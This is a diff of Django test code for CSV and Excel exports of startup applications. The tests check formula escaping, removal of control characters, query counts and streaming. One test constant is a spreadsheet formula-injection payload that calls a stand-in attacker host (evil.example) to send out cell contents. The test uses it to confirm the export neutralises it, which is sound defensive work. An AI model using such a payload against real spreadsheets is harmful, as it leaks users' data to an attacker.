@@ -159,13 +159,17 @@ def test_operator_list_search_and_exports(complete_draft, personas, client_for):
     assert row_link in client.get(url, {"q": "뉴로"}).content.decode()
     assert row_link in client.get(url, {"q": "220-81"}).content.decode()  # BRN
     assert row_link not in client.get(url, {"q": "없는회사"}).content.decode()
-    rows = list(csv.reader(io.StringIO(client.get(url, {"export": "csv"}).content
-                                       .decode("utf-8-sig"))))
+    rows = list(csv.reader(io.StringIO(client.get(url, {"export": "csv"}).getvalue()
+                                       .decode("utf-8-sig"), newline="")))
+    receipt = Submission.objects.get().receipt_number
     assert rows[0][:3] == ["id", "receipt", "status"]
-    assert rows[1][2] == "submitted" and rows[1][5] == "뉴로칩스"
-    book = load_workbook(io.BytesIO(client.get(url, {"export": "xlsx"}).content))
+    assert rows[1][1:3] == [receipt, "submitted"] and rows[1][5] == "뉴로칩스"
+    book = load_workbook(io.BytesIO(client.get(url, {"export": "xlsx"}).getvalue()))
     sheet = book.active
     assert sheet.cell(row=2, column=6).value == "뉴로칩스"
+    assert sheet.cell(row=2, column=2).value == receipt
+    searched = client.get(url, {"q": "뉴로", "status": "submitted", "export": "csv"})
+    assert [row[0] for row in _csv_rows_from(searched.getvalue())] == ["id", str(complete_draft.pk)]
 
 
 def test_operator_list_has_constant_queries(world, personas, client_for, questions):
@@ -189,6 +193,131 @@ def test_operator_list_has_constant_queries(world, personas, client_for, questio
         ApplicationFactory(track=TrackFactory(call=world.call, partner=world.partner_b),
                            applicant=OrganisationFactory(kind="startup"))
     assert count() == one
+
+
+# --- Exports (issue 10, items 1 and 7) ---------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+
+
+def _export(client, call_id, kind):
+    return client.get(f"/manage/calls/{call_id}/applications/", {"export": kind})
+
+
+def _csv_rows(response) -> list[list[str]]:
+    data = response.getvalue()
+    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 Korean only with a BOM
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def test_exports_never_carry_a_live_formula(draft, personas, client_for):
+    """A startup named like a formula is text in both exports; numbers stay numbers."""
+    from kbridge.accounts.models import Organisation
+
+    Organisation.objects.filter(pk=draft.applicant_id).update(name_ko=HYPERLINK,
+                                                              name_en="-2+3 Labs")
+    client = client_for(personas.operator)
+    response = _export(client, draft.call_id, "csv")
+    assert response.status_code == 200 and response.streaming
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    data = response.getvalue()
+    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 Korean only with a BOM
+    assert _csv_rows_from(data)[1][5:7] == ["'" + HYPERLINK, "'-2+3 Labs"]
+    line = data.decode("utf-8-sig").split("\r\n")[1]
+    assert line.startswith(f'{draft.pk},""')  # our number unquoted, text quoted
+    book = load_workbook(io.BytesIO(_export(client, draft.call_id, "xlsx").getvalue()))
+    name, name_en, pk = (book.active.cell(row=2, column=c) for c in (6, 7, 1))
+    assert (name.data_type, name.value) == ("s", "'" + HYPERLINK)
+    assert (name_en.data_type, name_en.value) == ("s", "'-2+3 Labs")
+    assert (pk.data_type, pk.value) == ("n", draft.pk)
+
+
+def test_exports_survive_characters_a_workbook_cannot_hold(draft, personas, client_for):
+    """Text stored before input cleaning (or by a script) may hold control characters that
+    openpyxl refuses: the export drops them instead of failing."""
+    from kbridge.accounts.models import Organisation
+
+    Organisation.objects.filter(pk=draft.applicant_id).update(
+        name_ko="뉴로\x0b칩스\x1f", name_en="Neuro\ufffeChips\x08")
+    client = client_for(personas.operator)
+    book = load_workbook(io.BytesIO(_export(client, draft.call_id, "xlsx").getvalue()))
+    assert [book.active.cell(row=2, column=c).value for c in (6, 7)] == ["뉴로칩스", "NeuroChips"]
+    assert _csv_rows(_export(client, draft.call_id, "csv"))[1][5:7] == ["뉴로칩스", "NeuroChips"]
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_exports_have_constant_queries(kind, world, personas, client_for, questions):
+    """1 and 3 applications (each with a profile and two submissions) cost the same queries:
+    no per-row query, and receipt numbers without loading the submissions' answers."""
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+    from django.utils import timezone
+
+    from tests.factories import (
+        ApplicationFactory,
+        OrganisationFactory,
+        StartupProfileFactory,
+        TrackFactory,
+    )
+
+    client = client_for(personas.operator)
+    client.get(f"/manage/calls/{world.call.pk}/applications/")  # session refresh out of the way
+    made = []
+
+    def add(track):
+        applicant = OrganisationFactory(kind="startup")
+        StartupProfileFactory(organisation=applicant, representative=personas.startup_a)
+        application = ApplicationFactory(track=track, applicant=applicant, status="submitted",
+                                         submitted_at=timezone.now())
+        for number in (1, 2):
+            Submission.objects.create(
+                application=application, number=number, draft_version=number,
+                receipt_number=f"R-{application.pk}-{number}", submitted_at=timezone.now(),
+                submitted_by=personas.startup_a, answers={"1": "x" * 1000}, profile={},
+                answers_sha256="0" * 64)
+        made.append(application)
+
+    def export():
+        with CaptureQueriesContext(connection) as ctx:
+            response = _export(client, world.call.pk, kind)
+            data = response.getvalue()
+        assert response.status_code == 200
+        return len(ctx.captured_queries), ctx.captured_queries, data
+
+    add(world.track_a)
+    one, _, _ = export()
+    for _ in range(2):
+        add(TrackFactory(call=world.call, partner=world.partner_b))
+    three, queries, data = export()
+    assert three == one
+    assert not any('"answers"' in q["sql"] for q in queries)
+    if kind == "csv":
+        receipts = {row[0]: row[1] for row in _csv_rows_from(data)[1:]}
+        assert receipts == {str(a.pk): f"R-{a.pk}-2" for a in made}
+
+
+def _csv_rows_from(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def test_csv_export_streams_rows_after_the_first_line(draft, personas, client_for):
+    """The CSV is a stream: its first line leaves before any application is read."""
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    from kbridge.applications.views import EXPORT_HEADER
+
+    client = client_for(personas.operator)
+    with CaptureQueriesContext(connection) as ctx:
+        response = _export(client, draft.call_id, "csv")
+        chunks = iter(response.streaming_content)
+        before = len(ctx.captured_queries)
+        header = ",".join(f'"{name}"' for name in EXPORT_HEADER)
+        assert next(chunks) == f"\ufeff{header}\r\n".encode()
+        assert len(ctx.captured_queries) == before
+        rest = b"".join(chunks)
+    assert len(ctx.captured_queries) > before
+    assert rest.startswith(f"{draft.pk},".encode()) and rest.count(b"\r\n") == 1
 
 
 def test_start_from_the_call_page(world, personas, client_for, questions):
